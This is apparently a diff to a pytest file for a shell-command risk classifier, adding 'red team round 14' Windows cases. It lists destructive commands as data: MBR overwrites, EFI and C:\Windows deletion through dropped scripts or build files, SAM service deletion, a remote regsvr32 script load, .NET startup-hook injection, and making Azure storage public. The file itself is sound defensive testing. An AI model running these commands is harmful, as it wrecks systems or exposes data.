@@ -377,3 +377,102 @@ def test_bindings_cross_into_the_other_windows_shell_and_block_inputs(
     command: str, shell: str
 ) -> None:
     assert assess(command, shell).level == RiskLevel.BLOCKED, command
+
+
+# --- REDTEAM round 14 Windows families ---------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "command,shell",
+    [
+        ("bootsect /nt60 all /force /mbr", "cmd"),
+        ("bootsect.exe /nt60 SYS /mbr /force", "powershell"),
+        (r"mountvol S: /s & del /s /q S:\EFI\*", "cmd"),
+        (r"mountvol Q: /s; Remove-Item Q:\EFI -Recurse -Force", "powershell"),
+        (
+            r"$s = Get-WmiObject -Class Win32_Service -Filter \"Name='SamSs'\"; $s.Delete()",
+            "powershell",
+        ),
+        (
+            'echo CreateObject("Scripting.FileSystemObject").DeleteFolder "C:\\Windows" > x.vbs'
+            " & cscript //nologo x.vbs",
+            "cmd",
+        ),
+        (
+            'echo CreateObject("WScript.Shell").Run "cmd /c rd /s /q C:\\Users" > r.vbs'
+            " & wscript r.vbs",
+            "cmd",
+        ),
+        ('echo import shutil; shutil.rmtree("C:/Windows")> x.py & python x.py', "cmd"),
+        ('echo import shutil > y.py & echo shutil.rmtree("C:/Users") >> y.py & python y.py', "cmd"),
+        ('Set-Content Makefile "all:`n`trd /s /q C:\\Windows"; nmake /f Makefile', "powershell"),
+        (
+            'Set-Content package.json \'{"scripts":{"build":"rd /s /q C:\\\\Windows"}}\';'
+            " npm run build",
+            "powershell",
+        ),
+    ],
+)
+def test_round14_windows_blocked_families(command: str, shell: str) -> None:
+    got = assess(command, shell)
+    assert got.level == RiskLevel.BLOCKED, (
+        command,
+        got.level.label,
+        [f.rule for f in got.findings],
+    )
+
+
+@pytest.mark.parametrize(
+    "command,shell",
+    [
+        (r"regsvr32 /s /n /u /i:\\10.0.0.5\share\x.sct scrobj.dll", "cmd"),
+        (r"$env:DOTNET_STARTUP_HOOKS = 'C:\t\hook.dll'; dotnet run", "powershell"),
+        (r"set DOTNET_STARTUP_HOOKS=C:\t\hook.dll & dotnet build", "cmd"),
+        ("Set-AzStorageContainerAcl -Name data -Permission Container -Context $ctx", "powershell"),
+        ("New-AzStorageContainer -Name pub -Permission Blob -Context $ctx", "powershell"),
+        (
+            "Set-AzStorageAccount -ResourceGroupName rg -Name a -AllowBlobPublicAccess $true",
+            "powershell",
+        ),
+    ],
+)
+def test_round14_windows_critical_families(command: str, shell: str) -> None:
+    assert assess(command, shell).level == RiskLevel.CRITICAL, command
+
+
+@pytest.mark.parametrize(
+    "command,shell,most",
+    [
+        ("bootsect /nt60 C: /mbr", "cmd", RiskLevel.CRITICAL),
+        ("bootsect /help", "cmd", RiskLevel.SAFE),
+        (r"mountvol S: /s & dir S:\EFI", "cmd", RiskLevel.MODERATE),
+        ("mountvol", "cmd", RiskLevel.SAFE),
+        (r"del /s /q S:\EFI\*", "cmd", RiskLevel.DANGEROUS),
+        (
+            r"$s = Get-WmiObject Win32_Service -Filter \"Name='Spooler'\"; $s.StartService()",
+            "powershell",
+            RiskLevel.SAFE,
+        ),
+        ('echo WScript.Echo "hi" > x.vbs & cscript x.vbs', "cmd", RiskLevel.MODERATE),
+        ('echo print("hi") > x.py & python x.py', "cmd", RiskLevel.MODERATE),
+        (r"regsvr32 /s /n /u /i:x.sct scrobj.dll", "cmd", RiskLevel.MODERATE),
+        ("$env:DOTNET_CLI_TELEMETRY_OPTOUT = '1'; dotnet build", "powershell", RiskLevel.MODERATE),
+        (
+            "New-AzStorageContainer -Name priv -Permission Off -Context $ctx",
+            "powershell",
+            RiskLevel.MODERATE,
+        ),
+        (
+            "Set-AzStorageContainerAcl -Name d -Permission Container -WhatIf",
+            "powershell",
+            RiskLevel.SAFE,
+        ),
+        (
+            'Set-Content package.json \'{"scripts":{"build":"tsc -p ."}}\'; npm run build',
+            "powershell",
+            RiskLevel.MODERATE,
+        ),
+    ],
+)
+def test_round14_look_alikes(command: str, shell: str, most: RiskLevel) -> None:
+    assert assess(command, shell).level <= most, command
